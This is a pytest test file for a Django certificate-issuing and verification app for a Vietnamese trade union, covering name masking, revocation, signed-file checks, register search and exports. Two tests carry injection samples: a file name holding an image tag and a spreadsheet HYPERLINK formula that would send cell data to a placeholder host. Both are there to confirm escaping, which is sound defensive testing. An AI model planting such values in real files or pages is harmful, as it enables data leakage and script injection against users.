"""What the pages show, to whom, and in how many queries."""

import io
import json
import re
import zipfile

import pytest
import python_calamine
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from diemtua.audit.models import Entry
from diemtua.credentials import actions, queries
from diemtua.credentials.models import Certificate
from diemtua.credentials.proof.checking import Reason, check_file
from diemtua.credentials.proof.keys import TrustedKeys
from diemtua.credentials.wording import sentence
from diemtua.kernel.text import mask_name
from tests.credentials.factories import make_certificate, make_finished_class, make_issuer
from tests.credentials.samples import make_badge, make_signer
from tests.factories import make_person

pytestmark = pytest.mark.django_db


def text_of(response) -> str:
    return " ".join(response.content.decode().split())


def count_queries(client: Client, url: str) -> int:
    with CaptureQueriesContext(
        connection,
    ) as seen:
        assert client.get(url).status_code == 200
    return len(seen)


# --- anyone ---


def test_a_stranger_sees_validity_with_the_name_masked(cast, client) -> None:
    certificate = make_certificate(cast)
    response = client.get(f"/chung-nhan/{certificate.code}")
    page = text_of(response)
    assert "Chứng nhận còn hiệu lực" in page
    assert "T*** T** Hòa" in page
    main = page.split("<main")[1]
    secrets = ("Trần Thị Hòa", "Sông Hồng", certificate.share_token, "0912345678")
    assert [s for s in secrets if s in main] == []
    assert re.search(r"\b87\b", main.replace(certificate.code, "")) is None  # the score; a random code may hold an 87
    assert response["X-Robots-Tag"] == "noindex, nofollow"
    assert response["Cache-Control"] == "no-store"


def test_the_holders_full_link_shows_the_name_until_it_is_renewed(cast, client) -> None:
    certificate = make_certificate(cast)
    link = f"/chung-nhan/{certificate.code}?t={certificate.share_token}"
    assert "Trần Thị Hòa" in text_of(client.get(link))
    actions.renew_share_link(by=cast.hoa, certificate=certificate)
    assert "Trần Thị Hòa" not in text_of(client.get(link))
    assert "Trần Thị Hòa" not in text_of(client.get(f"/chung-nhan/{certificate.code}?t="))


@pytest.mark.parametrize("address", ["/en/certificate/{}", "/chung-nhan/{}?lang=en"])
def test_the_english_page_says_so_in_its_language(cast, client, address) -> None:
    page = text_of(client.get(address.format(make_certificate(cast).code)))
    assert '<html lang="en">' in page
    assert "This certificate is valid" in page
    assert "Trade Union of Bo De Ward" in page


@pytest.mark.parametrize("address", ["/en/nothing", "/en/certificate/ABC/DEF", "/en/nothing/"])
def test_an_unknown_english_address_is_told_in_english(db, client, address) -> None:
    response = client.get(address, follow=True)
    page = text_of(response)
    assert (response.status_code, page.count("<h1>There is no such page</h1>"), page.count('<html lang="en">')) == (404, 1, 1)  # fmt: skip


def test_english_begins_at_the_check_and_a_missing_slash_does_not_matter(db, client) -> None:
    for address in ("/en/", "/en", "/en/certificate"):
        assert client.get(address, follow=True).redirect_chain[-1][0] == "/en/certificate/"


@pytest.mark.parametrize(("address", "check"), [("/chung-nhan/tep/", "/chung-nhan/"), ("/en/certificate/file/", "/en/certificate/")])  # fmt: skip
def test_a_result_whose_file_is_gone_leads_back_to_where_one_is_chosen(db, client, address, check) -> None:
    """As when a phone takes up the old tab again: the file was not kept."""
    assert client.get(address)["Location"] == check


def test_a_code_typed_carelessly_leads_to_its_page(cast, client) -> None:
    code = make_certificate(cast).code
    typed = f" {code[:4].lower()}-{code[4:8]} {code[8:]}"
    assert client.get("/chung-nhan/", {"ma": typed}).headers["Location"] == f"/chung-nhan/{code}"
    assert client.get(f"/chung-nhan/{code.lower()}").headers["Location"] == f"/chung-nhan/{code}"
    assert client.get("/en/certificate/", {"ma": typed}).headers["Location"] == f"/en/certificate/{code}"


@pytest.mark.parametrize("nothing", ["-", "---", "..."])
def test_a_code_of_no_letters_leads_to_where_one_is_typed(db, client, nothing) -> None:
    assert client.get(f"/chung-nhan/{nothing}").headers["Location"] == "/chung-nhan/"


def test_an_unknown_code_is_a_404_with_advice(db, client) -> None:
    response = client.get("/chung-nhan/ABCDEFGHJKMN")
    assert response.status_code == 404
    assert "Không có chứng nhận nào mang mã này" in text_of(response)


def test_a_revoked_certificate_says_when_and_why_only_by_the_holders_link_and_never_the_note(cast, client) -> None:
    certificate = make_certificate(cast)
    actions.revoke_certificate(by=cast.binh, certificate=certificate, reason="fraud", note="bí mật", now=timezone.now())
    for page, why in (("/chung-nhan/", "Vi phạm quy chế lớp học hoặc kiểm tra"), ("/en/certificate/", "The rules of the class or of the test were broken")):  # fmt: skip
        stranger = text_of(client.get(f"{page}{certificate.code}"))
        told = text_of(client.get(f"{page}{certificate.code}?t={certificate.share_token}"))
        assert (why in stranger, why in told, "bí mật" in stranger + told) == (False, True, False)
    page = text_of(client.get(f"/chung-nhan/{certificate.code}"))
    assert ("Chứng nhận đã bị thu hồi" in page, f"{timezone.localdate():%d/%m/%Y}" in page) == (True, True)


def test_a_replaced_certificate_leads_to_the_new_one(cast, client) -> None:
    old = make_certificate(cast)
    new = actions.reissue_certificate(by=cast.binh, certificate=old, reason="sai tên", now=timezone.now())
    page = text_of(client.get(f"/chung-nhan/{old.code}"))
    assert "Chứng nhận đã được cấp lại" in page
    assert f'href="/chung-nhan/{new.code}"' in page
    assert "sai tên" not in page


def test_guessing_is_slowed_down(db, client) -> None:
    answers: list[int] = []
    while 429 not in answers and len(answers) < 130:  # twice the limit: the minute may turn while we ask
        answers.append(client.get("/chung-nhan/ABCDEFGHJKMN").status_code)
    assert set(answers[:58]) == {404}
    assert answers[-1] == 429


def uploaded(client: Client, data: bytes, name: str = "tep.pdf", *, address: str = "/chung-nhan/tep/") -> str:
    file = io.BytesIO(data)
    file.name = name
    return text_of(client.post(address, {"tep": file}))


def test_uploaded_files_are_told_apart(cast, client, as_) -> None:
    certificate = make_certificate(cast)
    pdf = as_(cast.hoa).get(f"/so-chung-nhan/{certificate.pk}/chung-nhan.pdf").content
    badge = certificate.token.encode()
    place = len(pdf) // 2
    changed = pdf[:place] + bytes([pdf[place] ^ 1]) + pdf[place + 1 :]
    cases = [
        (pdf, Reason.GENUINE),
        (badge, Reason.GENUINE),
        (changed, Reason.ALTERED),
        (pdf[:-900], Reason.TRUNCATED),
        (make_badge(make_signer()).encode(), Reason.FORGED),
        (b"xin chao", Reason.FOREIGN),
    ]
    for data, reason in cases:
        assert sentence(reason) in uploaded(client, data)
    assert sentence(Reason.GENUINE, "en") in uploaded(client, pdf, address="/en/certificate/file/")
    actions.revoke_certificate(by=cast.binh, certificate=certificate, reason="mistake", note="", now=timezone.now())
    for data in (pdf, badge):
        assert sentence(Reason.REVOKED) in uploaded(client, data)


def test_a_file_tells_whose_it_is_so_that_nobody_shows_a_badge_of_somebody_else(cast, client) -> None:
    certificate = make_certificate(cast)
    page = uploaded(client, certificate.token.encode(), "huy-hieu.jwt", address="/en/certificate/file/")
    masked, full = mask_name(certificate.page.holder), certificate.page.holder
    told = (masked, full, "Compare this name with whoever gave you the file.")
    assert [page.count(words) for words in told] == [1, 0, 1]
    assert (
        "Name"
        not in uploaded(client, make_badge(make_signer()).encode(), address="/en/certificate/file/").split("<main")[1]
    )


def test_a_file_signed_by_us_but_not_in_the_register_is_not_believed(cast, client) -> None:
    signer = make_issuer(cast).active_key().signer()
    assert sentence(Reason.UNREGISTERED) in uploaded(client, make_badge(signer).encode(), "huy-hieu.jwt")


def test_no_file_chosen_is_a_sentence(db, client) -> None:
    response = client.post("/chung-nhan/tep/")
    assert response.status_code == 400
    assert "Hãy chọn một tệp trước khi bấm kiểm tra." in text_of(response)


def test_the_file_of_a_certificate_is_named_by_number_and_holder() -> None:
    assert Certificate(number="001/2026/GCN-CĐP", holder="Trần Thị Hòa").file_stem == "001-2026-GCN-CDP Tran Thi Hoa"


def test_a_file_name_cannot_smuggle_markup(db, client) -> None:
    assert "<img" not in uploaded(client, b"x", "<img src=x>.pdf").split("<main")[1]


def test_profile_keys_and_status_list_are_served_for_any_verifier(cast, client) -> None:
    certificate = make_certificate(cast)
    issuer = certificate.issuer
    profile = json.loads(client.get(issuer.identifier).content)
    assert (profile["id"], profile["type"], profile["name"]) == (issuer.identifier, ["Profile"], issuer.name_vi)
    keys = json.loads(client.get(profile["jwks"]).content)
    assert keys == json.loads(client.get("/chung-nhan/khoa.json").content)
    assert json.loads(client.get(issuer.active_key().kid).content) == keys["keys"][0]
    trusted = TrustedKeys.from_jwks(keys)

    def answer() -> Reason:
        listed = client.get(certificate.status_list.url)
        assert listed["Content-Type"] == "application/vc+jwt"
        assert listed["Access-Control-Allow-Origin"] == "*"
        return check_file(certificate.token.encode(), trusted, status_lists=[listed.content.decode()]).reason

    assert answer() is Reason.GENUINE
    actions.revoke_certificate(by=cast.binh, certificate=certificate, reason="mistake", note="", now=timezone.now())
    assert answer() is Reason.REVOKED
    assert "d" not in keys["keys"][0]


# --- the holder ---


def test_the_holder_fetches_pdf_and_badge_until_revoked(cast, as_) -> None:
    certificate = make_certificate(cast)
    client, keys = as_(cast.hoa), queries.trusted_keys()
    for name, media in (("chung-nhan.pdf", "application/pdf"), ("huy-hieu.jwt", "application/vc+jwt"), ("huy-hieu.json", "application/json")):  # fmt: skip
        response = client.get(f"/so-chung-nhan/{certificate.pk}/{name}")
        assert response["Content-Type"] == media
        assert response["Content-Disposition"].startswith('attachment; filename="001-')
        assert check_file(response.content, keys).genuine
    assert client.get(f"/so-chung-nhan/{certificate.pk}/chung-nhan.pdf").content == client.get(f"/so-chung-nhan/{certificate.pk}/chung-nhan.pdf").content  # fmt: skip
    actions.revoke_certificate(by=cast.binh, certificate=certificate, reason="mistake", note="", now=timezone.now())
    assert client.get(f"/so-chung-nhan/{certificate.pk}/chung-nhan.pdf").status_code == 409
    assert "Đã thu hồi" in text_of(client.get("/chung-nhan-cua-toi/"))


def test_my_certificates_costs_the_same_for_one_and_for_three(cast, as_) -> None:
    make_certificate(cast)
    client = as_(cast.hoa)
    one = count_queries(client, "/chung-nhan-cua-toi/")
    make_certificate(cast)
    make_certificate(cast)
    assert count_queries(client, "/chung-nhan-cua-toi/") == one


def test_without_certificates_the_page_says_how_to_get_one(cast, as_) -> None:
    assert "Bạn chưa có chứng nhận nào" in text_of(as_(cast.hoa).get("/chung-nhan-cua-toi/"))


# --- the upper-level officer ---


@pytest.mark.variants
@pytest.mark.parametrize("url", ["/so-chung-nhan/", "/so-chung-nhan/lop/", "/so-chung-nhan/lop/{class}/"])
def test_lists_cost_the_same_for_one_and_for_three(cast, as_, url) -> None:
    certificate = make_certificate(cast)
    client, address = as_(cast.binh), url.format(**{"class": certificate.training_class_id})
    one = count_queries(client, address)
    make_certificate(cast)
    make_certificate(cast, make_person("Ngô Văn Ba", cast.union, position="TQ"))
    assert count_queries(client, address) == one


def test_the_register_is_searched_and_filtered(cast, as_) -> None:
    make_certificate(cast)
    second = make_certificate(cast, make_person("Đặng Thùy Linh", cast.union, position="PCT"))
    actions.revoke_certificate(by=cast.binh, certificate=second, reason="request", note="", now=timezone.now())

    def found(**words) -> list[str]:
        response = as_(cast.binh).get("/so-chung-nhan/", words)
        return [row.holder for row in response.context["page"]]

    assert found() == ["Đặng Thùy Linh", "Trần Thị Hòa"]
    assert found(tim="dang thuy") == ["Đặng Thùy Linh"]
    assert found(tim="001/") == ["Trần Thị Hòa"]
    assert found(tim=second.printed_code) == ["Đặng Thùy Linh"]
    assert found(trang_thai="valid") == ["Trần Thị Hòa"]
    assert found(nam="1999x") == ["Đặng Thùy Linh", "Trần Thị Hòa"]
    assert found(nam="2001") == []
    assert found(lop=second.training_class_id) == ["Đặng Thùy Linh"]


def test_a_holder_is_found_as_officers_are_by_the_beginnings_of_words_and_by_marks_where_typed(cast, as_) -> None:
    khoa = make_person("Trần Thị Khoa", cast.union, position="UV")
    hoang = make_person("Trần Văn Hoàng", cast.union, position="KT")
    for person in (None, khoa, hoang):
        make_certificate(cast, person)
    client = as_(cast.binh)

    def found(typed: str) -> list[str]:
        return sorted(c.holder for c in client.get("/so-chung-nhan/", {"tim": typed}).context["page"])

    assert found("hoa") == ["Trần Thị Hòa", "Trần Văn Hoàng"]
    assert found("hòa") == found("thi hoa") == ["Trần Thị Hòa"]
    cast.hoa_person.full_name = "Trần Thị Hiền"  # the paper still says Hòa
    cast.hoa_person.save()
    assert found("hòa") == ["Trần Thị Hòa"]
    assert found("002/2026 tran") == ["Trần Thị Khoa"]
    for certificate in Certificate.objects.all():
        assert found(certificate.code.lower()) == found(certificate.printed_code) == [certificate.holder]


def test_the_other_ward_does_not_see_this_register(cast, as_) -> None:
    make_certificate(cast)
    assert list(as_(cast.other_binh).get("/so-chung-nhan/").context["page"]) == []


def test_the_register_workbook_holds_every_number_in_order(cast, as_) -> None:
    make_certificate(cast)
    second = make_certificate(cast, make_person("Đặng Thùy Linh", cast.union, position="PCT"))
    actions.revoke_certificate(by=cast.binh, certificate=second, reason="request", note="", now=timezone.now())
    response = as_(cast.binh).get("/so-chung-nhan/so-cap.xlsx")
    book = python_calamine.CalamineWorkbook.from_filelike(io.BytesIO(response.getvalue()))
    rows = book.get_sheet_by_name("Sổ cấp").to_python()
    assert rows[0][:3] == ["STT", "Số vào sổ", "Họ và tên"]
    assert [(r[0], r[2], r[8], r[10]) for r in rows[1:]] == [
        (1.0, "Trần Thị Hòa", 87.0, "Còn hiệu lực"),
        (2.0, "Đặng Thùy Linh", 87.0, "Đã thu hồi"),
    ]
    today = timezone.localdate()
    assert [(r[9], r[11]) for r in rows[1:]] == [(second.issued_on, ""), (second.issued_on, today)]


def test_what_leaves_the_register_is_noted_and_a_formula_in_it_is_text(cast, as_) -> None:
    certificate = make_certificate(cast)
    formula = '=HYPERLINK("http://x.example/?"&C2,"Tập huấn")'
    Certificate.objects.update(printed=certificate.printed | {"course": formula})
    file = as_(cast.binh).get("/so-chung-nhan/so-cap.xlsx").getvalue()
    sheet = zipfile.ZipFile(io.BytesIO(file)).read("xl/worksheets/sheet1.xml")
    assert (b"HYPERLINK" in sheet, b"<f>" in sheet) == (True, False)
    b"".join(as_(cast.binh).get(f"/so-chung-nhan/lop/{certificate.training_class_id}/tat-ca.zip").streaming_content)
    noted = Entry.objects.filter(action__startswith="credentials.export").order_by("pk")
    assert [(e.action, e.actor_id, e.detail) for e in noted] == [
        ("credentials.export_register", cast.binh.pk, {"rows": 1}),
        ("credentials.export_class", cast.binh.pk, {"rows": 1}),
    ]


def test_a_class_comes_in_one_zip_without_the_revoked(cast, as_) -> None:
    make_issuer(cast)
    people = [cast.hoa_person, make_person("Đặng Thùy Linh", cast.union, position="PCT")]
    training_class = make_finished_class(cast, people)
    actions.issue_now(by=cast.binh, training_class=training_class, now=timezone.now())
    response = as_(cast.binh).get(f"/so-chung-nhan/lop/{training_class.pk}/tat-ca.zip")
    archive = zipfile.ZipFile(io.BytesIO(response.getvalue()))
    assert archive.testzip() is None
    names = archive.namelist()
    assert len(names) == 4
    assert {check_file(archive.read(name), queries.trusted_keys()).genuine for name in names} == {True}
    revoked = Certificate.objects.get(holder="Trần Thị Hòa")
    actions.revoke_certificate(by=cast.binh, certificate=revoked, reason="mistake", note="", now=timezone.now())
    response = as_(cast.binh).get(f"/so-chung-nhan/lop/{training_class.pk}/tat-ca.zip")
    assert len(zipfile.ZipFile(io.BytesIO(response.getvalue())).namelist()) == 2


def test_the_page_of_a_class_tells_those_revoked_apart_from_those_that_hold(cast, as_) -> None:
    make_issuer(cast)
    people = [cast.hoa_person, make_person("Đặng Thùy Linh", cast.union, position="PCT")]
    training_class = make_finished_class(cast, people)
    actions.issue_now(by=cast.binh, training_class=training_class, now=timezone.now())

    def figures() -> list[tuple[str, str]]:
        page = text_of(as_(cast.binh).get(f"/so-chung-nhan/lop/{training_class.pk}/"))
        return re.findall(r'class="figure"><b>(\d+)</b><span>(.*?)</span>', page)

    gone = Certificate.objects.get(holder="Trần Thị Hòa")
    actions.revoke_certificate(by=cast.binh, certificate=gone, reason="mistake", note="", now=timezone.now())
    assert figures() == [
        ("0", "đủ điều kiện, chưa cấp"), ("1", "có chứng nhận còn hiệu lực"), ("1", "chứng nhận đã thu hồi"),
        ("0", "chưa đủ điều kiện"), ("2", "người được gọi"),
    ]  # fmt: skip


def test_nothing_is_asked_about_a_certificate_that_cannot_be_withdrawn_any_more(cast, as_) -> None:
    """The page of before, opened again, says so before a reason is typed."""
    client, old = as_(cast.binh), make_certificate(cast)
    page = f"/so-chung-nhan/{old.pk}/"
    actions.revoke_certificate(by=cast.binh, certificate=old, reason="mistake", note="", now=timezone.now())
    answers = [client.get(f"{page}{deed}/").status_code for deed in ("thu-hoi", "cap-lai")]
    actions.reissue_certificate(by=cast.binh, certificate=old, reason="đã làm rõ", now=timezone.now())
    assert answers == [409, 200]
    assert [client.get(f"{page}{deed}/").status_code for deed in ("thu-hoi", "cap-lai")] == [409, 409]


def test_the_issuer_form_writes_and_says_what_is_missing(cast, as_) -> None:
    client, url = as_(cast.binh), f"/so-chung-nhan/don-vi-cap/{cast.ward.pk}/"
    assert "Liên đoàn Lao động thành phố Hà Nội" in text_of(client.get(url))
    assert client.post(url, {"name_vi": "x"}).status_code == 200
    typed = {"superior_vi": "", "name_vi": "Công đoàn  phường Bồ Đề ", "name_en": "Union", "title_vi": "GIẤY CHỨNG NHẬN",
             "title_en": "Certificate", "symbol": "GCN", "place": "Hà Nội", "signer_title_vi": "CHỦ TỊCH",
             "signer_title_en": "President", "signer_name": "Nguyễn Văn Bình"}  # fmt: skip
    assert client.post(url, typed).status_code == 302
    assert make_issuer(cast).name_vi == "Công đoàn phường Bồ Đề"
    assert client.get(f"{url}mau.pdf").content[:5] == b"%PDF-"


def test_the_page_of_a_class_that_is_not_finished_says_so_and_has_no_button(cast, as_) -> None:
    make_issuer(cast)
    address = f"/so-chung-nhan/lop/{make_finished_class(cast, [cast.hoa_person], state='called').pk}/"
    page = text_of(as_(cast.binh).get(address))
    assert ("kết thúc lớp</a> sau buổi cuối" in page, f'action="{address}cap/"' in page) == (True, False)
    assert as_(cast.binh).post(f"{address}cap/").status_code == 409


def test_pressing_issue_starts_a_job_and_comes_back_to_the_class(cast, as_) -> None:
    make_issuer(cast)
    training_class = make_finished_class(cast, [cast.hoa_person])
    client = as_(cast.binh)
    job = client.get(client.post(f"/so-chung-nhan/lop/{training_class.pk}/cap/").headers["Location"])
    assert "Đã cấp 1 chứng nhận." in text_of(job)
    assert "Trần Thị Hòa" in text_of(client.get(f"/so-chung-nhan/lop/{training_class.pk}/"))
